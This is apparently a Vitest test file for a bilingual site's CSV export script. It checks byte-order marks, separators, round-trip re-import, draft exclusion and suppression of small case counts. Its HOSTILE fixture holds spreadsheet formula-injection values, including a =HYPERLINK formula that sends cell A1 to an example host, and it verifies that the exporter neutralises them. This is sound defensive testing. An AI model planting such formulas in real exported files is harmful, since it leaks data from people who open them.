import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { runCheck } from "../../lib/build/check-content.ts";
import { readRecords } from "../../lib/csv/read-records.ts";
import { publishedDataFiles } from "../../lib/site/download-tables.ts";
import { createSiteContext } from "../../lib/site/site-context.ts";
import { REPO_ROOT, TSX_IMPORT, json, removeTree } from "../../support/content-tree.ts";
import { copyProjectContent, snapshot } from "../helpers/project-copy.ts";

const roots: string[] = [];
afterEach(() => roots.splice(0).forEach(removeTree));
function project() {
  const root = copyProjectContent();
  roots.push(root);
  return root;
}
function cli(root: string, script: "export" | "import", args: string[]) {
  const result = spawnSync(process.execPath, ["--import", TSX_IMPORT, path.join(REPO_ROOT, `scripts/${script}.ts`), ...args], {
    cwd: root,
    encoding: "utf8",
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}
const read = (root: string, file: string) => readFileSync(path.join(root, "exports", file), "utf8");
/** What npm run export writes: the activities in Indonesian and in English, then the bilingual tables. */
const FILES = ["kegiatan.csv", "activities.csv", "action-plan.csv", "case-statistics.csv"];

/** An activity whose text tries every way into a formula, including a second line. ("@(1)", not "@name": that is a social-media handle to the privacy screen.) */
const HOSTILE = {
  date: "2024-11-20",
  kelurahan: "muncul",
  pillar: "awareness",
  activityType: "dialogue",
  forum: "online",
  title: { id: '=HYPERLINK("http://example.org/?"&A1,"klik")', en: "-2+3 @(1)" },
  participants: { total: 9, women: 4, men: 5 },
  partners: ["+Kesbangpol", "@(1) Puskesmas"],
  notes: { id: "Baris pertama\n=1+1\n\t-tab\n'=sudah ada apostrof", en: "@(1)+1" },
  source: { kind: "cms" },
};

describe("npm run export", () => {
  it("writes the site's files into exports/ as UTF-8 with a byte-order mark and CRLF: the activities in each language", () => {
    const root = project();
    const { status, stdout } = cli(root, "export", []);
    expect(status).toBe(0);
    expect(stdout).toMatch(/✓ exports\/kegiatan\.csv: \d+ rows/);
    for (const file of FILES) {
      const text = read(root, file);
      expect(text.startsWith("\uFEFF")).toBe(true);
      expect(text.split("\r\n").length).toBeGreaterThan(2);
    }
    expect(read(root, "kegiatan.csv").split("\r\n")[0]).toBe(
      "\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan;Kategori Forum;Pilar;Judul;Judul (EN);Keterangan (EN);Mitra;Peserta di bawah 25",
    );
    expect(read(root, "activities.csv").split("\r\n")[0]).toBe(
      "\uFEFFNo,Date,Kelurahan,Activity type,Venue,Participants,Men,Women,Notes (Indonesian),Forum category,Pillar,Title (Indonesian),Title,Notes,Partners,Under 25",
    );
  });

  it("gives the same bytes as the site's files under /data/", () => {
    const root = project();
    expect(cli(root, "export", []).status).toBe(0);
    const site = new Map(publishedDataFiles(createSiteContext(runCheck(root))).map((file) => [file.url, file.text]));
    for (const file of FILES) expect(read(root, file), file).toBe(site.get(`/data/${file}`));
  });

  it("uses one separator for every file on request, and writes elsewhere with --out", () => {
    const root = project();
    expect(cli(root, "export", ["--out", "elsewhere", "--delimiter", ","]).status).toBe(0);
    expect(readFileSync(path.join(root, "elsewhere/kegiatan.csv"), "utf8")).toMatch(/^\uFEFFNo,Tanggal,Kelurahan,/);
    expect(cli(root, "export", ["--delimiter", "tab"]).status).toBe(0);
    expect(read(root, "activities.csv")).toMatch(/^\uFEFFNo\tDate\tKelurahan\t/);
    expect(cli(root, "export", ["--delimiter", "|"]).status).toBe(2);
  });

  it("neutralises every line of every cell that starts with a formula character", () => {
    const root = project();
    writeFileSync(path.join(root, "content/activities/2024-11-20-muncul-hostile.json"), json(HOSTILE));
    expect(cli(root, "export", []).status).toBe(0);
    const records = readRecords(read(root, "kegiatan.csv").slice(1), ";");
    const hostile = records.find((record) => record.cells[1] === "20/11/2024" && record.cells[2] === "Muncul")!;
    const lines = hostile.cells.flatMap((cell) => cell.split(/\r\n|\n|\r/));
    for (const line of lines) expect(line).not.toMatch(/^[=+\-@\t\r]/);
    expect(hostile.cells[11]).toBe('\'=HYPERLINK("http://example.org/?"&A1,"klik")');
    expect(hostile.cells[14]).toBe("'+Kesbangpol\n'@(1) Puskesmas");
    expect(hostile.cells[8]).toBe("Baris pertama\n'=1+1\n'\t-tab\n''=sudah ada apostrof");
  });

  it("exports only what the site publishes: no drafts, and case statistics only after suppression", () => {
    const root = project();
    writeFileSync(
      path.join(root, "content/activities/2024-11-21-muncul-draft.json"),
      json({ ...HOSTILE, date: "2024-11-21", title: { id: "Draf rahasia", en: "Secret draft" }, draft: true }),
    );
    expect(cli(root, "export", []).status).toBe(0);
    for (const file of ["kegiatan.csv", "activities.csv"]) expect(read(root, file)).not.toContain("Draf rahasia");
    const counts = readRecords(read(root, "case-statistics.csv").slice(1), ",")
      .slice(1)
      .map((record) => record.cells[5]!);
    // No number from 1 to 4 ever appears: those are published as "<5" (or hidden as ×).
    for (const count of counts) expect(count).toMatch(/^(0|[5-9]|\d{2,}|<5|×)$/);
    expect(counts).toContain("<5");
  });

  it("re-importing its own export, in either language, adds nothing, and exporting again gives the same bytes (no stacked prefixes)", () => {
    const root = project();
    writeFileSync(path.join(root, "content/activities/2024-11-20-muncul-hostile.json"), json(HOSTILE));
    expect(cli(root, "export", []).status).toBe(0);
    const first = [read(root, "kegiatan.csv"), read(root, "activities.csv")];
    const before = snapshot(root);
    for (const file of ["kegiatan.csv", "activities.csv"]) {
      const summary = JSON.parse(cli(root, "import", ["--json", path.join(root, "exports", file)]).stdout);
      expect(summary, file).toMatchObject({ imported: 0, rejected: 0, errors: [] });
      expect(summary.duplicates, file).toBe(summary.total);
    }
    expect(snapshot(root)).toEqual(before);
    expect(cli(root, "export", []).status).toBe(0);
    expect([read(root, "kegiatan.csv"), read(root, "activities.csv")]).toEqual(first);
  });

  it("a fresh project built from an export, exported again, gives the same files", () => {
    const root = project();
    expect(cli(root, "export", []).status).toBe(0);
    const exported = [read(root, "kegiatan.csv"), read(root, "activities.csv")];
    const fresh = project();
    removeTree(path.join(fresh, "content/activities"));
    const imported = JSON.parse(cli(fresh, "import", ["--json", path.join(root, "exports/kegiatan.csv")]).stdout);
    expect(imported).toMatchObject({ rejected: 0, duplicates: 0 });
    expect(imported.imported).toBe(imported.total);
    expect(cli(fresh, "export", []).status).toBe(0);
    expect([read(fresh, "kegiatan.csv"), read(fresh, "activities.csv")]).toEqual(exported);
  });

  it("refuses to export while the content has problems", () => {
    const root = project();
    writeFileSync(path.join(root, "content/activities/2024-11-22-muncul-broken.json"), "{ not json");
    const { status, stderr } = cli(root, "export", []);
    expect(status).toBe(1);
    expect(stderr).toContain("nothing exported");
  });
});
